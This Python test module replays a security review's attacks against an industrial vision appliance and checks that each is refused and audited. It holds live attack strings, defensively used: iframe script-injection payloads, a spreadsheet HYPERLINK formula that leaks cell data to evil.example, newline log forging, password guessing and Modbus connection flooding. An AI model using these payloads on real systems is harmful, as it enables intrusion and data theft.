"""The security review's attacks (issue F), one coroutine per finding, as bench/attack_replay.py
replays them against a running appliance, and :class:`Replay`: the appliance, the attacker's ways
in, and how each attack's outcome is recorded (answer, the line after, audit rows, counters)."""

from __future__ import annotations

import asyncio
import csv
import io
import re
import struct
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
from asyncua import ua

from appliance.daemon import Daemon
from appliance.plc.modbus_map import load_register_map
from appliance.plc.opcua import GENERATED_LOGIN
from appliance.plc.opcua_pki import REJECTED_MAX
from appliance.plc.opcua_security import GENERATED_USER
from bench.attacker import (
    HOST,
    INPUTS,
    Identity,
    app_node,
    coil_on,
    make_identity,
    mbap,
    modbus_answer,
    modbus_request,
    registers_text,
    secure_client,
    status_of,
    write_part_id,
)

PASSWORDS = {"admin": "anna-password-1", "engineer": "erik-password-1", "operator": "olga-password-1"}
USERS = {"admin": "anna", "engineer": "erik", "operator": "olga"}
STRANGER = "127.0.0.2"
VSM, RM = "VisionSystem.VisionStateMachine", "VisionSystem.ResultManagement"
IFRAME = '<iframe srcdoc="<script>parent.document.title=document.cookie</script>">'
SHORT_IFRAME = "<iframe src=javascript:alert(1)>"  # 32 characters: all the Modbus part_id registers hold
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"invoice")'


@dataclass
class Seen:
    """What one attack got: the answer, what the line shows after, and whether that is as it should be."""

    observed: str
    line: str
    line_ok: bool = True
    detail: dict[str, Any] = field(default_factory=dict)


@dataclass
class Outcome:
    finding: int
    attack: str
    expected: str
    observed: str
    line: str
    line_ok: bool
    audit_expected: list[str]
    audit: list[str]
    counted: dict[str, float]
    verdict: str
    detail: dict[str, Any]


class Replay:
    """The running appliance, the attacker's ways in, and the outcomes so far."""

    def __init__(self, daemon: Daemon, ua_port: int, mb_port: int, plc: Identity, clients: Path, log: io.StringIO,
                 dashboard_url: str) -> None:
        self.daemon, self.ua_port, self.mb_port, self.plc, self.clients = daemon, ua_port, mb_port, plc, clients
        self.log, self.dashboard_url = log, dashboard_url
        state = daemon.config.state_dir
        self.server_cert = state / "pki" / "own" / "cert.der"
        self.opcua_password = (state / GENERATED_LOGIN).read_text(encoding="utf-8").strip()
        self.api_url = f"http://{HOST}:{daemon.api_port}/api/v1"
        mb = daemon.config.modbus
        self.map = load_register_map(mb.register_map and daemon.config.resolve(mb.register_map), mb.word_order)
        self.outcomes: list[Outcome] = []

    async def attack(self, finding: int, attack: str, expected: str, run: Callable[[], Awaitable[Seen]],
                     audit: Sequence[str] = (), counters: Sequence[tuple[str, dict[str, str]]] = ()) -> None:
        """Run one attack; PASS if it got ``expected``, the line is as it should be, an audit row was
        written for each of ``audit`` (an action, or "action (channel" for one channel's) and each of
        ``counters`` rose."""
        since = datetime.now(UTC)
        before = [self.counter(name, labels) for name, labels in counters]
        seen = await run()
        rows = await self.audit_since(since)
        counted = {_sample(name, labels): self.counter(name, labels) - was
                   for (name, labels), was in zip(counters, before, strict=True)}
        written = [f"{r['action']} ({r['role']}, {r['user']})" for r in rows]
        ok = (seen.observed == expected and seen.line_ok and all(v > 0 for v in counted.values())
              and all(any(w.startswith(a if "(" in a else f"{a} (") for w in written) for a in audit))
        self.outcomes.append(Outcome(finding, attack, expected, seen.observed, seen.line, seen.line_ok, list(audit),
                                     written, counted, "PASS" if ok else "FAIL", seen.detail))

    def counter(self, name: str, labels: dict[str, str]) -> float:
        return self.daemon.metrics.registry.get_sample_value(f"{name}_total", labels) or 0.0

    async def audit_since(self, since: datetime) -> list[dict[str, Any]]:
        def read() -> list[dict[str, Any]]:
            self.daemon.audit_trail.flush()
            return [r for r in reversed(self.daemon.store.audit_log(5000)) if r["at"] >= since]
        return await asyncio.to_thread(read)

    async def part_taken(self, part_id: str) -> tuple[bool, str]:
        """Whether ``part_id`` became the next part's id or was stored with a part (waits two parts),
        and that in words."""
        await asyncio.sleep(2 / (self.daemon.config.camera.replay.rate_hz or 1))  # type: ignore[union-attr]

        def stored() -> int:
            self.daemon.store.flush()
            with self.daemon.store.cursor() as cur:
                row = cur.execute("SELECT count(*) FROM results WHERE part_id = ?", [part_id]).fetchone()
            return int(row[0]) if row else 0
        taken = self.daemon.context.part_id == part_id or await asyncio.to_thread(stored) > 0
        return taken, f"PartId {part_id!r} {'taken' if taken else 'not taken'}; line {self.daemon.state}"

    def log_lines(self) -> list[str]:
        return re.sub(r"\x1b\[[0-9;]*m", "", self.log.getvalue()).splitlines()  # colours, if on a terminal

    def api(self, token: str | None = None) -> httpx.AsyncClient:
        return httpx.AsyncClient(base_url=self.api_url, timeout=60,
                                 headers={"Authorization": f"Bearer {token}"} if token else {})

    async def token(self, role: str, password: str | None = None) -> str:
        """Log in with the password, as the dashboard does for its users."""
        async with self.api() as api:
            answer = await api.post("/auth/token", json={"username": USERS[role],
                                                         "password": password or PASSWORDS[role]})
        return str(answer.raise_for_status().json()["access_token"])

    async def opcua_session(self, password: str, identity: Identity | None = None) -> str:
        """A SignAndEncrypt session as the generated operator: "activated" or the Bad status."""
        client = await secure_client(self.ua_port, identity or self.plc, self.server_cert, GENERATED_USER, password)
        try:
            async with client:
                return "activated"
        except ua.UaStatusCodeError as exc:
            return ua.StatusCode(exc.code).name

    async def modbus(self, pdu: bytes, unit: int = 1, source: str = HOST) -> str:
        return await modbus_request(self.mb_port, pdu, unit, source)

    def text_write(self, name: str, text: str) -> bytes:
        entry = self.map[name]
        return registers_text(entry.address, entry.length or 1, text)


def _sample(name: str, labels: dict[str, str]) -> str:
    return name + "{" + ",".join(f'{k}="{v}"' for k, v in labels.items()) + "}"


async def opcua_bypass(r: Replay) -> None:
    """Finding 1: a session on an untrusted channel certificate, with the operator's password."""
    mallory = make_identity(r.clients, "mallory")

    async def write(identity: Identity, part_id: str, **tamper: Any) -> Seen:
        got = await write_part_id(r.ua_port, r.server_cert, identity, GENERATED_USER, r.opcua_password, part_id,
                                  **tamper)
        taken, line = await r.part_taken(part_id)
        return Seen(got, line, taken is not bool(tamper))  # the control's part id is taken, no other

    await r.attack(1, "control: the trusted PLC (its certificate on channel and session) writes PartId", "written",
                   lambda: write(r.plc, "SN-BENCH-0001"), audit=("opcua.session", "plc.input"))
    await r.attack(1, "untrusted channel certificate, CreateSession ClientCertificate empty, operator password; "
                      "write PartId", "BadCertificateUntrusted",
                   lambda: write(mallory, "EVIL-0001", session_cert=None), audit=("opcua.session.refused",))
    await r.attack(1, "untrusted channel certificate, the trusted PLC's public certificate in CreateSession; "
                      "write PartId", "BadCertificateUntrusted",
                   lambda: write(mallory, "EVIL-0002", session_cert=r.plc.der, app_uri=r.plc.uri),
                   audit=("opcua.session.refused",))


async def injection(r: Replay) -> None:
    """Finding 2: script in PLC text fields, formulas in the CSV export, the headers pages are served with."""
    async def opcua_iframe() -> Seen:
        async with await secure_client(r.ua_port, r.plc, r.server_cert, GENERATED_USER, r.opcua_password) as client:
            node = await app_node(client, f"{INPUTS}.PartId")
            got = await status_of(node.write_value(ua.Variant(IFRAME, ua.VariantType.String)))
        taken, line = await r.part_taken(IFRAME)
        return Seen(got, line, not taken)

    async def modbus_iframe() -> Seen:
        got = await r.modbus(r.text_write("part_id", SHORT_IFRAME))
        taken, line = await r.part_taken(SHORT_IFRAME)
        return Seen(got, line, not taken)

    async def csv_formula() -> Seen:
        rid = r.daemon.latest.result_id if r.daemon.latest else ""

        def plant() -> None:  # as a part stored before the wire refused such text (or imported) would be
            r.daemon.store.flush()
            with r.daemon.store.cursor() as cur:
                cur.execute("UPDATE results SET part_id = ? WHERE result_id = ?", [FORMULA, rid])
        await asyncio.to_thread(plant)
        async with r.api(await r.token("engineer")) as api:
            export = await api.get("/analytics/export", params={"format": "csv"})
        cell = next((row["part_id"] for row in csv.DictReader(io.StringIO(export.text, newline=""))
                     if row["result_id"] == rid), "(row missing)")
        return Seen(cell, f"HTTP {export.status_code}, {export.headers.get('content-type')}",
                    export.status_code == 200)

    async def dashboard_headers() -> Seen:
        deadline = time.monotonic() + 60
        async with httpx.AsyncClient(timeout=5) as web:
            while True:  # streamlit may still be starting
                try:
                    page = await web.get(r.dashboard_url + "/")
                    break
                except httpx.HTTPError:
                    if time.monotonic() > deadline:
                        raise
                    await asyncio.sleep(0.3)
        policy = page.headers.get("content-security-policy", "")
        csp = dict([*d.strip().split(" ", 1), ""][:2] for d in policy.split(";") if d.strip())
        inline = "with" if "'unsafe-inline'" in csp.get("script-src", "") else "without"
        return Seen(f"script-src {inline} 'unsafe-inline', frame-src {csp.get('frame-src')}, frame-ancestors "
                    f"{csp.get('frame-ancestors')}; X-Frame-Options {page.headers.get('x-frame-options')}",
                    f"HTTP {page.status_code} from dashboard/serve.py", page.status_code == 200,
                    {"content-security-policy": page.headers.get("content-security-policy")})

    await r.attack(2, f"the PLC writes PartId {IFRAME} over OPC UA", "BadOutOfRange", opcua_iframe,
                   counters=[("appliance_plc_inputs_refused", {"protocol": "opcua", "input": "PartId"})])
    await r.attack(2, f"the allowed Modbus client writes part_id {SHORT_IFRAME} (FC 16)", "exception 03",
                   modbus_iframe, counters=[("appliance_modbus_refused_writes", {"reason": "unsafe_text"})])
    await r.attack(2, f"CSV export (engineer) of a stored part id {FORMULA}", "'" + FORMULA, csv_formula,
                   audit=("analytics.export",))
    await r.attack(2, "the dashboard's response headers (GET /)",
                   "script-src without 'unsafe-inline', frame-src 'none', frame-ancestors 'none'; "
                   "X-Frame-Options DENY", dashboard_headers)


async def modbus(r: Replay) -> None:
    """Finding 3: a stranger on the Modbus port, a reset after an OPC UA Halt, unit 0, slot exhaustion."""
    reset, heartbeat = r.map["reset"].address, r.map["heartbeat"].address
    async with await secure_client(r.ua_port, r.plc, r.server_cert, GENERATED_USER, r.opcua_password) as plc:
        vsm = await app_node(plc, VSM)

        async def halt_then_reset() -> Seen:
            await vsm.call_method(await app_node(plc, f"{VSM}.Halt"))
            got = await r.modbus(coil_on(reset))
            await asyncio.sleep(0.2)
            return Seen(got, f"line {r.daemon.state} (held by {r.daemon.halted_by})", r.daemon.state == "halted")

        async def stranger_reset() -> Seen:
            got = await r.modbus(coil_on(reset), source=STRANGER)
            await asyncio.sleep(0.2)
            return Seen(got, f"line {r.daemon.state}", r.daemon.state == "halted")

        async def opcua_reset() -> Seen:
            got = await status_of(vsm.call_method(await app_node(plc, f"{VSM}.Reset")))
            return Seen(got, f"line {r.daemon.state}", r.daemon.state == "operational")

        await r.attack(3, "the operator's OPC UA Halt, then the allowed Modbus client (127.0.0.1) sets the reset coil",
                       "exception 01", halt_then_reset, audit=("line.halt", "line.reset.refused"),
                       counters=[("appliance_modbus_refused_writes", {"reason": "reset_refused"})])
        await r.attack(3, f"a client outside allowed_clients ({STRANGER}) sets the reset coil while halted",
                       "closed without an answer", stranger_reset,
                       counters=[("appliance_modbus_refused_connections", {"reason": "not_allowed"})])
        await r.attack(3, "control: the operator's OPC UA Reset (the channel that halted)", "Good", opcua_reset,
                       audit=("line.reset",))

    async def broadcast() -> Seen:
        got = await r.modbus(r.text_write("part_id", "SN-BROADCAST"), unit=0)
        taken, line = await r.part_taken("SN-BROADCAST")
        return Seen(got, line, not taken)

    async def crowd() -> Seen:
        read = struct.pack(">BHH", 3, heartbeat, 1)
        strangers = [await asyncio.open_connection(HOST, r.mb_port, local_addr=(STRANGER, 0)) for _ in range(20)]
        try:
            for _, writer in strangers:
                writer.write(mbap(read))
            answers = Counter([await modbus_answer(reader) for reader, _ in strangers])
            plc_answer = await r.modbus(read)  # while all 20 are still open from their side
        finally:
            for _, writer in strangers:
                writer.close()
        closed = answers["closed without an answer"]
        return Seen(f"{closed}/20 strangers closed without an answer; the PLC {plc_answer}",
                    f"line {r.daemon.state}", r.daemon.state == "operational", {"strangers": dict(answers)})

    await r.attack(3, "the allowed client writes part_id SN-BROADCAST to unit 0 (broadcast)", "exception 0B",
                   broadcast)
    await r.attack(3, f"20 connections held open from {STRANGER}, then the PLC reads the heartbeat",
                   "20/20 strangers closed without an answer; the PLC answered (FC 03)", crowd,
                   counters=[("appliance_modbus_refused_connections", {"reason": "not_allowed"})])


async def logins(r: Replay) -> None:
    """Finding 4: password guessing on the API and OPC UA, and a forged log line."""
    cfg, user = r.daemon.config.login, USERS["operator"]

    async def api_guesses() -> Seen:
        async with r.api() as api:
            answers = [await api.post("/auth/token", json={"username": user, "password": f"guess-{i:04d}"})
                       for i in range(20)]
            right = await api.post("/auth/token", json={"username": user, "password": PASSWORDS["operator"]})
        codes = Counter(a.status_code for a in answers)
        retry = sorted({int(a.headers["Retry-After"]) for a in answers if "Retry-After" in a.headers})
        return Seen(f"401 ×{codes[401]}, 429 ×{codes[429]}; the right password: {right.status_code}",
                    f"Retry-After {retry} s; {right.json().get('detail')}", bool(retry) and max(retry) <= cfg.lockout_s)

    async def api_unlock() -> Seen:
        async with r.api(await r.token("admin")) as api:
            unlocked = (await api.post(f"/users/{user}/unlock")).json()
            right = await api.post("/auth/token", json={"username": user, "password": PASSWORDS["operator"]})
        return Seen(f"was_locked {unlocked.get('was_locked')}; the right password: {right.status_code}", "–")

    async def opcua_guesses() -> Seen:
        wrong = Counter([await r.opcua_session(f"guess-{i:04d}") for i in range(20)])
        right = await r.opcua_session(r.opcua_password)
        return Seen(", ".join(f"{k} ×{n}" for k, n in wrong.items()) + f"; the right password: {right}", "–")

    async def opcua_unlock() -> Seen:
        async with r.api(await r.token("admin")) as api:
            unlocked = (await api.post(f"/users/{GENERATED_USER}/unlock")).json()
        return Seen(f"was_locked {unlocked.get('was_locked')}; the right password: "
                    f"{await r.opcua_session(r.opcua_password)}", "–")

    forged = f"{datetime.now(UTC):%Y-%m-%dT%H:%M:%SZ} [info     ] api log-in of anna"

    async def newline_name() -> Seen:
        async with r.api() as api:
            answer = await api.post("/auth/token", json={"username": f"intruder\n{forged}", "password": "x"})
        lines = r.log_lines()
        logged = next((line for line in lines if "intruder" in line), "(not logged)")
        forged_lines = sum(line.startswith(forged) for line in lines)
        return Seen(f"{answer.status_code}; log lines starting with the forged text: {forged_lines}",
                    f"logged as: {logged}", "intruder\\n" in logged)

    await r.attack(4, f"20 wrong API passwords for {user}, then the right one", f"401 ×{cfg.max_failures - 1}, "
                   f"429 ×{21 - cfg.max_failures}; the right password: 429", api_guesses,
                   audit=("login.failed", "login.locked"),
                   counters=[("appliance_login_lockouts", {"channel": "api", "scope": "user"}),
                             ("appliance_login_refused", {"channel": "api", "reason": "locked"})])
    await r.attack(4, f"an admin lifts the lock (POST /users/{user}/unlock)",
                   "was_locked True; the right password: 200", api_unlock,
                   audit=("user.unlock", f"login (api, {user})"))
    await r.attack(4, f"20 wrong OPC UA passwords for {GENERATED_USER} (trusted PLC certificate), then the right one",
                   "BadUserAccessDenied ×20; the right password: BadUserAccessDenied", opcua_guesses,
                   audit=("login.failed", "login.locked"),
                   counters=[("appliance_login_lockouts", {"channel": "opcua", "scope": "user"})])
    await r.attack(4, f"an admin lifts the lock (POST /users/{GENERATED_USER}/unlock), the PLC logs in",
                   "was_locked True; the right password: activated", opcua_unlock,
                   audit=("user.unlock", "login (opcua"))
    await r.attack(4, "API log-in with a user name that carries a newline and a forged log line",
                   "401; log lines starting with the forged text: 0", newline_name, audit=("login.failed",))


async def sessions(r: Replay) -> None:
    """Finding 5: tokens after a password change, the last admin, the generated secret, rejected/, bad indexes."""
    async def password_change() -> Seen:
        old = await r.token("operator")
        async with r.api(old) as as_olga, r.api(await r.token("admin")) as admin:
            before = (await as_olga.get("/auth/me")).status_code
            changed = await admin.put(f"/users/{USERS['operator']}", json={"role": "operator",
                                                                           "password": "olga-password-2"})
            after = (await as_olga.get("/auth/me")).status_code
        await r.token("operator", "olga-password-2")  # raises unless the new password logs in
        return Seen(str(after), f"old token before the change: {before}; change: {changed.status_code}; "
                                "the new password logs in", before == 200 and changed.status_code == 200)

    async def last_admin() -> Seen:
        async with r.api(await r.token("admin")) as admin:
            demoted = await admin.put(f"/users/{USERS['admin']}", json={"role": "engineer",
                                                                         "password": "anna-password-2"})
            me = (await admin.get("/auth/me")).json()
        return Seen(str(demoted.status_code), f"{me}; {demoted.json().get('detail')}", me.get("role") == "admin")

    async def generated_secret() -> Seen:
        path = r.daemon.config.state_dir / GENERATED_LOGIN
        lines = r.log_lines()
        mode = oct(path.stat().st_mode & 0o777)
        return Seen(f"{sum(r.opcua_password in line for line in lines)} log lines hold it",
                    f"searched {len(lines)} lines; kept in {GENERATED_LOGIN} (mode {mode})", mode == "0o600")

    tries = 5

    async def rejected() -> Seen:
        got = Counter([await r.opcua_session(r.opcua_password, make_identity(r.clients, f"mallory-{i}"))
                       for i in range(tries)])
        files = len(list((r.daemon.config.state_dir / "pki" / "rejected").glob("*.der")))
        return Seen(f"{files} certificate(s) in pki/rejected/", f"{tries} sessions: {dict(got)}",
                    set(got) == {"BadCertificateUntrusted"})

    async def negative_index() -> Seen:
        async with await secure_client(r.ua_port, r.plc, r.server_cert, GENERATED_USER, r.opcua_password) as plc:
            args = [ua.Variant(0, ua.VariantType.Int32), *[ua.Variant("", ua.VariantType.String)] * 8,
                    ua.Variant(10, ua.VariantType.UInt32), ua.Variant(-1, ua.VariantType.Int32),
                    ua.Variant(0, ua.VariantType.Int32)]
            got = await status_of((await app_node(plc, RM)).call_method(
                await app_node(plc, f"{RM}.GetResultListFiltered"), *args))
        return Seen(got, f"line {r.daemon.state}", r.daemon.state == "operational")

    await r.attack(5, "an admin changes a user's password; the user's old token", "401", password_change,
                   audit=("user.set",))
    await r.attack(5, "the last admin demotes itself (PUT /users/anna role engineer)", "422", last_admin)
    await r.attack(5, "the generated OPC UA operator password in the daemon's log", "0 log lines hold it",
                   generated_secret)
    untrusted = len(list(r.clients.glob("mallory*.der"))) + tries
    await r.attack(5, f"{tries} more sessions, each with a new untrusted certificate (cap {REJECTED_MAX}, not "
                      "configurable: the count is reported)", f"{min(untrusted, REJECTED_MAX)} certificate(s) in "
                   "pki/rejected/", rejected)
    await r.attack(5, "GetResultListFiltered with startIndex = -1", "BadOutOfRange", negative_index)


ATTACKS: tuple[Callable[[Replay], Awaitable[None]], ...] = (opcua_bypass, injection, modbus, logins, sessions)
